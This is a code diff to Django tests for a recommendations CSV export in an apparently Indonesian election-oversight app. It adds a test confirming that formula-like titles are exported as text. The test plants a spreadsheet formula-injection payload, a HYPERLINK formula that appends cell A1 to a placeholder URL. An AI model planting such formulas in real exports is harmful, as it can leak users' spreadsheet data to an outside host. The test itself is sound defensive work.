@@ -22,12 +22,12 @@ def _bawaslu_bantul():
     return Organisation.objects.get(kind=Organisation.Kind.BAWASLU_KABKOTA)
 
 
-def _file(auditor, **extra):  # noqa: F811
+def _file(auditor, title="Percepat kajian", **extra):  # noqa: F811
     return services.file_recommendation(
         by=auditor,
         auditor=policies.filing_organisations(auditor)[0],
         addressed_to=_bawaslu_bantul(),
-        title="Percepat kajian",
+        title=title,
         body="Kajian melewati tenggat.",
         now=timezone.now(),
         **extra,
@@ -114,7 +114,8 @@ def test_overdue_while_unanswered_after_the_day(client, auditor, bawaslu_bantul_
 def _rows(response):
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
-    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text)))
 
 
 def test_the_csv_holds_what_each_may_read(
@@ -134,3 +135,14 @@ def test_the_csv_holds_what_each_may_read(
         assert row["addressed_to"] == _bawaslu_bantul().name
     client.force_login(bkn_officer)  # neither the auditor nor the addressee
     assert _rows(client.get(url)) == []
+
+
+def test_the_csv_opens_typed_text_as_text_never_as_a_formula(
+    client,
+    auditor,  # noqa: F811
+    bawaslu_bantul_officer,
+):
+    _file(auditor, title='=HYPERLINK("http://contoh.invalid/?"&A1,"Buka")')
+    client.force_login(auditor)
+    [row] = _rows(client.get(reverse("transparency:recommendations_csv")))
+    assert row["title"] == '\'=HYPERLINK("http://contoh.invalid/?"&A1,"Buka")'
